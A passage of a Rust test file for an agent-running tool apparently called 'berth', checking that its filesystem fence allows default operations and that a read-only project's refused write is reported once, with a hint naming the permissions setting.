    let (_, events, _) = send_json(&b, &session, "again");
    let (results, berth) = outcomes(&events);
    for name in [
        "sibling",
        "sibling_via_symlink",
        "list_projects",
        "toolchain",
    ] {
        assert_eq!(
            results.get(name).map(String::as_str),
            Some("done"),
            "by default, {name} works: {results:?}"
        );
    }
    assert!(
        berth
            .iter()
            .any(|l| l.starts_with("berth: fenced: ~/code/app + tmp") && !l.contains("reads:")),
        "{berth:?}"
    );
}

/// A denial is said once, and by its cause: a fenced command agent's refused write is
/// its own stderr line, then `denied by the fence: the line above`, then a count; when
/// the run was read-only because a project's `"permissions": "read-only"` narrowed it,
/// the hint names that setting, not `"fence": "off"`.
#[test]
fn a_denial_is_said_once_and_a_read_only_one_names_the_permissions() {
    let mut b = Berth::new("fence-once");
    let app = b.user_home.join("code/app");
    std::fs::create_dir_all(app.join(".berth")).unwrap();
    std::fs::write(
        app.join(".berth/settings.jsonc"),
        r#"{ "permissions": "read-only" }"#,
    )
    .unwrap();
    b.serve();
    add_command_agent(&b, "writer", "cat >/dev/null; echo hi > f.txt; echo done");
    let session = new_session(&b, "writer", Some(&app));
    let out = b.run(&["send", &session, "go"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        stderr.matches("cannot create f.txt").count(),
        1,
        "the refusal's text once: {stderr}"
    );
    assert!(
        stderr.contains("denied by the fence: the line above"),
        "{stderr}"
    );
    assert!(
        stderr.contains("warning: the fence denied 1 action (shown above)"),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: this run was read-only: the \"permissions\" in force"),
        "{stderr}"
    );
    assert!(!stderr.contains("\"fence\": \"off\""), "{stderr}");
    assert!(!app.join("f.txt").exists());
}
